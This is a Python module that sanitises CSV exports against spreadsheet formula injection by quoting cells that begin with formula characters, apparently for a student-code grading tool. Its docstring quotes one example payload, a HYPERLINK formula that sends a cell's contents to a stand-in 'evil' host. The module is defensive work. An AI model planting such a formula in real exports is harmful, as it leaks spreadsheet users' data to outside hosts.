"""CSV rows a spreadsheet opens as text, never as a formula.

Ids are file names and messages quote student code: a cell that starts with `=`, `+`, `-`,
`@`, a tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets
(`=HYPERLINK("http://evil/?"&A1, "click")` sends the row away). Following OWASP's
CSV-injection guidance, such a text cell is prefixed with a single quote, which the
spreadsheet shows as text and does not evaluate; the csv module's quoting does the rest.
Numbers are written as numbers (a negative score is not text a student chose).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

__all__ = ["FORMULA_STARTS", "csv_text", "text_cell"]

# OWASP's list, with the full-width forms some spreadsheets also accept.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def text_cell(value: str) -> str:
    """A text cell made inert: prefixed with `'` if a spreadsheet would evaluate it, and
    with characters that are not UTF-8 text (lone surrogates) escaped."""
    text = value.encode("utf-8", "backslashreplace").decode("utf-8")
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _cell(value: object) -> object:
    return text_cell(value) if isinstance(value, str) else value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A whole CSV document, every text cell made inert."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([_cell(value) for value in row])
    return buffer.getvalue()
